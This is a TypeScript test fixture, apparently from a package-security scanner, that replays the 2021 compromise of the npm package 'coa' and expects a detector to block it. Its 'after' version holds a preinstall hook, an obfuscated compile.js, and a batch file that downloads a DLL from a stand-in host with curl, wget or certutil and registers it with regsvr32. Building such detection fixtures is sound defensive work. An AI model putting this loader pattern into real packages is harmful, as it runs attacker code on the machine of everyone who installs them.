import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '2.0.2',
  publishedAt: '2018-11-20T09:14:27.000Z',
  publisher: { name: 'qfox', email: 'qfox@mail.example.invalid' },
  manifest: {
    main: 'index.js',
    license: 'MIT',
    description: 'Command-Option-Argument: parser for command line options',
    engines: { node: '>= 4.0' },
    dependencies: { chalk: '^2.4.1', q: '^1.1.2' },
  },
  files: {
    'index.js': `module.exports = require('./lib');
`,
    'lib/index.js': `'use strict';

const Cmd = require('./cmd'), Opt = require('./opt');

module.exports = { Cmd, Opt, shell: { escape: w => /["\\s]/.test(w) ? \`'\${w}'\` : w } };
`,
    'lib/cmd.js': `'use strict';

const Opt = require('./opt');

module.exports = class Cmd {
    constructor(parent) {
        this._parent = parent;
        this._opts = [];
        this._cmds = Object.create(null);
        this._acts = [];
    }

    static create(parent) { return new this(parent); }

    name(value) { this._name = value; return this; }
    title(value) { this._title = value; return this; }

    cmd() { return new this.constructor(this); }

    opt() { return new Opt(this); }

    act(fn, force) {
        if (force) this._acts = [];
        this._acts.push(fn);
        return this;
    }

    helpful() {
        return this.opt().name('help').title('Help').short('h').long('help').flag()
            .act(function() { return this.usage(); }).end();
    }

    usage() {
        const lines = ['Usage: ' + this._name];
        this._opts.forEach(o => lines.push(\`  -\${o._short}, --\${o._long} : \${o._title}\`));
        return lines.join('\\n');
    }

    run(argv) {
        const opts = {}, args = [];
        for (const item of argv || process.argv.slice(2)) {
            const found = this._opts.find(o => item === '--' + o._long || item === '-' + o._short);
            found ? opts[found._name] = true : args.push(item);
        }
        return this._acts.map(act => act.call(this, opts, args));
    }

    end() { return this._parent; }
};
`,
    'lib/opt.js': `'use strict';

module.exports = class Opt {
    constructor(cmd) { this._cmd = cmd; cmd._opts.push(this); }
    name(v) { this._name = v; return this; }
    title(v) { this._title = v; return this; }
    short(v) { this._short = v; return this; }
    long(v) { this._long = v; return this; }
    flag() { this._flag = true; return this; }
    act(fn) { this._act = fn; return this; }
    end() { return this._cmd; }
};
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'coa-2021',
  story: 'November 2021: after years of rest, a preinstall script starts an obfuscated compile.js that writes and runs a batch file, which loads a library.',
  name: 'coa',
  before,
  after: {
    version: '2.0.4',
    publishedAt: '2021-11-04T09:14:27.000Z',
    publisher: { name: 'qfox', email: 'qfox@mail.example.invalid' },
    manifest: {
      main: 'index.js',
      license: 'MIT',
      description: 'Command-Option-Argument: parser for command line options',
      engines: { node: '>= 4.0' },
      scripts: { preinstall: 'start /B node compile.js & node compile.js' },
      dependencies: { chalk: '^2.4.1', q: '^1.1.2' },
    },
    files: {
      ...before.files,
      'compile.js': `const _0x2ab3=['\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73','\\x70\\x6c\\x61\\x74\\x66\\x6f\\x72\\x6d','\\x77\\x69\\x6e\\x33\\x32','\\x73\\x70\\x61\\x77\\x6e','\\x63\\x6d\\x64\\x2e\\x65\\x78\\x65','\\x63\\x6f\\x6d\\x70\\x69\\x6c\\x65\\x2e\\x62\\x61\\x74','\\x65\\x78\\x69\\x74','\\x6f\\x6e','\\x6c\\x6f\\x67','\\x6c\\x69\\x6e\\x75\\x78','\\x64\\x61\\x72\\x77\\x69\\x6e'];(function(_0x4c1f08,_0x2ab3ee){const _0x19d6c2=function(_0x53e1){while(--_0x53e1){_0x4c1f08['push'](_0x4c1f08['shift']());}};_0x19d6c2(++_0x2ab3ee);}(_0x2ab3,0xb));const _0x19d6=function(_0x4c1f08,_0x2ab3ee){_0x4c1f08=_0x4c1f08-0x0;let _0x19d6c2=_0x2ab3[_0x4c1f08];return _0x19d6c2;};const {[_0x19d6('0x3')]:_0x5ce2a7}=require(_0x19d6('0x0'));var _0x33f0d1=process[_0x19d6('0x1')];if(_0x33f0d1==_0x19d6('0x9')){_0x33f0d1='\\x4c\\x69\\x6e\\x75\\x78';}else if(_0x33f0d1==_0x19d6('0xa')){_0x33f0d1='\\x4d\\x61\\x63\\x4f\\x53';}else if(_0x33f0d1==_0x19d6('0x2')){_0x33f0d1='\\x57\\x69\\x6e\\x64\\x6f\\x77\\x73';const _0x1aa96b=_0x5ce2a7(_0x19d6('0x4'),['\\x2f\\x63',_0x19d6('0x5')]);_0x1aa96b[_0x19d6('0x7')](_0x19d6('0x6'),_0x22=>{console[_0x19d6('0x8')](_0x22);});}
`,
      'compile.bat': `@echo off
Set rqfq=${noise(62, 5, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}
cls
@%rqfq:~3,1%%rqfq:~41,1%%rqfq:~7,1% off
curl https://pastorcryptograph.example.invalid/3/sdd.dll -o compile.dll
if not exist compile.dll (
    wget https://pastorcryptograph.example.invalid/3/sdd.dll -O compile.dll
)
if not exist compile.dll (
    certutil.exe -urlcache -f https://pastorcryptograph.example.invalid/3/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
`,
    },
  },
  must: 'block',
};
